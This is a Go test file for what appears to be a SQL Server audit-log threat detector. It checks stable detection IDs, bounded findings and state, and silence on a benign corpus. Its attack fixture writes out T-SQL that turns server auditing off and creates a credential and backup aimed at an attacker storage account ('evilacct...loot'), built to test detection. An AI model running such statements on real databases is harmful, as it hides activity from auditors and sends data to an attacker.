@@ -1,0 +1,267 @@
+package detect
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xelwatch/xelwatch/xel/audit"
+)
+
+func ids(fs []Finding) []string {
+	var out []string
+	for _, f := range fs {
+		out = append(out, f.Rule+":"+f.DetectionID)
+	}
+	return out
+}
+
+func attackStory() []audit.Record {
+	recs := fails(9, "198.51.100.23", same("sa"), 20*time.Second)
+	recs = append(recs,
+		rec("LGIS", "LX", "", by("sa"), ip("198.51.100.23"), at(4*time.Minute)),
+		rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", by("sa"), at(5*time.Minute)),
+		rec("CR", "CD", "CREATE CREDENTIAL [https://evilacct.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'sv=1&sig=2'", by("sa"), at(6*time.Minute)),
+		rec("BA", "DB", evilURL, by("sa"), at(7*time.Minute)),
+		rec("AUSC", "A", "", by("sa"), at(9*time.Minute)),
+	)
+	for i := range recs {
+		recs[i].AuditFileOffset = int64(1000 + i)
+	}
+	return recs
+}
+
+func TestDetectionIDsAreStable(t *testing.T) {
+	cfg := testConfig(t)
+	first := ids(run(t, cfg, attackStory()))
+	if len(first) < 8 {
+		t.Fatalf("attack story gave %d findings, want at least 8: %q", len(first), first)
+	}
+	if again := ids(run(t, cfg, attackStory())); !slices.Equal(again, first) {
+		t.Errorf("second run ids = %q, want %q", again, first)
+	}
+	if n := len(slices.Compact(slices.Sorted(slices.Values(first)))); n != len(first) {
+		t.Errorf("%d distinct ids among %d findings, want all distinct", n, len(first))
+	}
+
+	t.Run("replay into the same state", func(t *testing.T) {
+		e, err := New(cfg, NewMemoryState(0))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got1, got2 []string
+		for _, pass := range []*[]string{&got1, &got2} {
+			recs := attackStory()
+			for i := range recs {
+				fs, err := e.Evaluate(context.Background(), &recs[i])
+				if err != nil {
+					t.Fatal(err)
+				}
+				*pass = append(*pass, ids(fs)...)
+			}
+		}
+		// At-least-once: a replay may report again, but only with ids
+		// already reported, and must not invent new ones.
+		for _, id := range got2 {
+			if !slices.Contains(got1, id) {
+				t.Errorf("replay produced new finding %s", id)
+			}
+		}
+		if !slices.Equal(got1, first) {
+			t.Errorf("first pass = %q, want %q", got1, first)
+		}
+	})
+
+	t.Run("reverse order", func(t *testing.T) {
+		// Correlations do not depend on the order files are processed in.
+		recs := attackStory()
+		slices.Reverse(recs)
+		pick := func(all []string) []string {
+			var out []string
+			for _, id := range all {
+				if strings.HasPrefix(id, "AUD-006:") {
+					out = append(out, id)
+				}
+			}
+			slices.Sort(out)
+			return out
+		}
+		if got, want := pick(ids(run(t, cfg, recs))), pick(first); len(want) != 4 || !slices.Equal(got, want) {
+			t.Errorf("AUD-006 ids in reverse order = %q, want %q (4)", got, want)
+		}
+	})
+}
+
+func TestAttackStoryFindings(t *testing.T) {
+	fs := run(t, testConfig(t), attackStory())
+	var got []string
+	for _, f := range fs {
+		got = append(got, fmt.Sprintf("%s/%s", f.Rule, f.Severity))
+	}
+	want := []string{"AUTH-004/medium", "AUTH-001/medium", "AUTH-003/high", "AUD-001/critical", "EXF-005/medium", "AUD-006/critical",
+		"EXF-001/high", "EXF-002/high", "EXF-005/high", "AUD-006/critical", "AUD-006/critical", "AUD-006/critical"}
+	if !slices.Equal(got, want) {
+		t.Errorf("findings = %q\nwant       %q%s", got, want, whys(fs))
+	}
+}
+
+func TestFindingBounds(t *testing.T) {
+	cfg := testConfig(t)
+	cfg.BruteForceThreshold = 200
+	cfg.StateMaxEntries = 256
+	long := strings.Repeat("x", 300)
+	stmt := "CREATE LOGIN a WITH PASSWORD = 'TopSecret123' " + strings.Repeat("/* padding é */ ", 20000)
+	recs := repeat(200, func(i int) audit.Record {
+		return rec("LGIF", "LX", stmt, ip("10.8.8.8"), at(time.Duration(i)*time.Second), by(long+"é"), app(long), server(long),
+			func(r *audit.Record) { r.FileName = strings.Repeat("f", 2000) })
+	})
+	fs := run(t, cfg, recs)
+	got := summary(fs, "AUTH-001")
+	if len(got) != 1 {
+		t.Fatalf("AUTH-001 findings = %q, want one", got)
+	}
+	for _, f := range fs {
+		b, err := json.Marshal(f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(b) > 48<<10 {
+			t.Errorf("%s finding is %d bytes, want at most 48 KiB", f.Rule, len(b))
+		}
+		if len(f.Records) > MaxEvidence {
+			t.Errorf("%s has %d records, want at most %d", f.Rule, len(f.Records), MaxEvidence)
+		}
+		for _, r := range f.Records {
+			if len(r.Statement) > MaxExcerpt {
+				t.Errorf("excerpt is %d bytes, want at most %d", len(r.Statement), MaxExcerpt)
+			}
+			if strings.Contains(r.Statement, "TopSecret123") {
+				t.Errorf("excerpt keeps the password: %q", r.Statement[:80])
+			}
+		}
+		if len(f.DetectionID) != detectionIDLen {
+			t.Errorf("detection id %q has %d characters, want %d", f.DetectionID, len(f.DetectionID), detectionIDLen)
+		}
+	}
+}
+
+func TestMemoryStateBounded(t *testing.T) {
+	st := NewMemoryState(100)
+	ctx := context.Background()
+	for i := range 1000 {
+		_, err := st.Update(ctx, fmt.Sprintf("k%d", i), t0.Add(time.Duration(i)*time.Second), func(cur []Entry) []Entry {
+			return append(slices.Clone(cur), Entry{ID: fmt.Sprint(i)})
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	keys, _ := st.Stats()
+	if keys > 100 {
+		t.Errorf("keys = %d, want at most 100", keys)
+	}
+	if got, _ := st.Get(ctx, "k999"); len(got) != 1 {
+		t.Errorf("newest key lost: %v", got)
+	}
+	if got, _ := st.Get(ctx, "k0"); got != nil {
+		t.Errorf("oldest key kept: %v", got)
+	}
+	// Keys far behind the newest expiry are forgotten even under the cap.
+	_, _ = st.Update(ctx, "late", t0.Add(48*time.Hour), func([]Entry) []Entry { return []Entry{{ID: "x"}} })
+	if keys, _ := st.Stats(); keys != 1 {
+		t.Errorf("keys after a day's jump = %d, want 1", keys)
+	}
+	// A single key never holds more than maxStateEntries.
+	for i := range 2 * maxStateEntries {
+		_, _ = st.Update(ctx, "big", t0.Add(48*time.Hour), func(cur []Entry) []Entry {
+			return append(slices.Clone(cur), Entry{ID: fmt.Sprint(i)})
+		})
+	}
+	if got, _ := st.Get(ctx, "big"); len(got) != maxStateEntries {
+		t.Errorf("entries = %d, want %d", len(got), maxStateEntries)
+	}
+}
+
+// benignCorpus generates n realistic routine records: batch completions
+// of application queries, logins and logouts, the approved nightly
+// backups, DMV queries with XML namespaces, temp tables, audit session
+// starts. Deterministic for a seed.
+func benignCorpus(n int, seed uint64) []audit.Record {
+	rng := rand.New(rand.NewPCG(seed, 7))
+	apps := []string{"Core .Net SqlClient Data Provider", "Microsoft SQL Server Management Studio - Query", "SQLAgent - TSQL JobStep (Job 0x2 : Step 1)", "OrdersService", "Microsoft JDBC Driver 12.4"}
+	users := []string{"app_orders", "app_reporting", `CONTOSO\alice`, `CONTOSO\bob`, "etl_loader"}
+	stmts := []string{
+		"SELECT o.OrderID, o.Total FROM dbo.Orders o WHERE o.CustomerID = @p0",
+		"INSERT INTO dbo.OrderLines (OrderID, Sku, Qty) VALUES (@p0, @p1, @p2)",
+		"UPDATE dbo.Customers SET LastSeen = SYSUTCDATETIME() WHERE CustomerID = @id",
+		"exec sp_executesql N'SELECT * FROM dbo.Products WHERE Sku = @sku',N'@sku nvarchar(20)',@sku=N'A-100'",
+		"CREATE TABLE #work (id int); INSERT #work SELECT id FROM dbo.Queue; DROP TABLE #work",
+		"WITH XMLNAMESPACES ('http://schemas.microsoft.com/sqlserver/2004/07/showplan' AS sp) SELECT qp.query_plan FROM sys.dm_exec_query_plan(@h) qp",
+		"SELECT name, value_in_use FROM sys.configurations WHERE name IN ('xp_cmdshell', 'clr enabled')",
+		"EXEC dbo.usp_GetCustomerOrders @CustomerID = 42",
+		"SELECT COUNT(*) FROM dbo.AuditTrail WHERE Created > DATEADD(day, -1, SYSUTCDATETIME())",
+		"EXEC sp_configure 'max degree of parallelism', 4",
+		"SELECT backup_finish_date FROM msdb.dbo.backupset WHERE database_name = 'Sales'",
+		"MERGE dbo.Stock AS t USING #incoming AS s ON t.Sku = s.Sku WHEN MATCHED THEN UPDATE SET t.Qty = s.Qty;",
+		"SELECT 'Report for ' + CONVERT(varchar(10), GETDATE(), 120) + ' done' AS msg",
+		"ALTER INDEX ALL ON dbo.Orders REORGANIZE",
+		"DECLARE @sql nvarchar(max) = N'SELECT 1'; EXEC sp_executesql @sql",
+	}
+	out := make([]audit.Record, 0, n)
+	t := time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC) // a Saturday
+	for i := 0; len(out) < n; i++ {
+		t = t.Add(time.Duration(50+rng.IntN(500)) * time.Millisecond)
+		u := users[rng.IntN(len(users))]
+		base := func(action, class, stmt string) audit.Record {
+			return audit.Record{
+				EventTime: t, ActionID: action, ClassType: class, Succeeded: true, SessionID: int16(50 + rng.IntN(200)),
+				ServerInstanceName: "sql01", DatabaseName: "Sales", ServerPrincipalName: u, SessionServerPrincipalName: u,
+				ClientIP: fmt.Sprintf("10.0.%d.%d", 2+rng.IntN(3), 1+rng.IntN(250)), ApplicationName: apps[rng.IntN(len(apps))],
+				HostName: "APP" + fmt.Sprint(rng.IntN(9)), Statement: stmt, FileName: "sql01/Sales/SqlDbAuditing_Audit/2026-11-21/00_00_00_000_0.xel",
+				AuditFileOffset: int64(i/50) * 8192, EventIndex: i % 50,
+			}
+		}
+		switch k := rng.IntN(100); {
+		case k < 70:
+			out = append(out, base("BCM", "", stmts[rng.IntN(len(stmts))]))
+		case k < 82:
+			out = append(out, base("DBAS", "DB", ""))
+		case k < 90:
+			out = append(out, base("LGO", "", ""))
+		case k < 94:
+			r := base("DBAF", "DB", "")
+			r.Succeeded = false // an occasional typo: well below thresholds
+			if rng.IntN(4) != 0 {
+				r = base("RCM", "", "exec dbo.usp_Heartbeat")
+			}
+			out = append(out, r)
+		case k < 97:
+			r := base("BA", "DB", fmt.Sprintf("BACKUP DATABASE [Sales] TO URL = N'https://backupacct.blob.core.windows.net/sql/sales_%d.bak' WITH COPY_ONLY, COMPRESSION, CHECKSUM", i))
+			svc(&r)
+			out = append(out, r)
+		case k < 99:
+			r := base("BAL", "DB", fmt.Sprintf(`BACKUP LOG [Sales] TO DISK = N'\\backupsrv\sql\sales_%d.trn' WITH INIT`, i))
+			svc(&r)
+			out = append(out, r)
+		default:
+			out = append(out, base("AUSC", "A", ""))
+		}
+	}
+	return out
+}
+
+func TestBenignCorpus(t *testing.T) {
+	recs := benignCorpus(20000, 1)
+	fs := run(t, testConfig(t), recs)
+	if len(fs) != 0 {
+		if len(fs) > 5 {
+			fs = fs[:5]
+		}
+		t.Errorf("benign corpus gave findings:%s", whys(fs))
+	}
+}
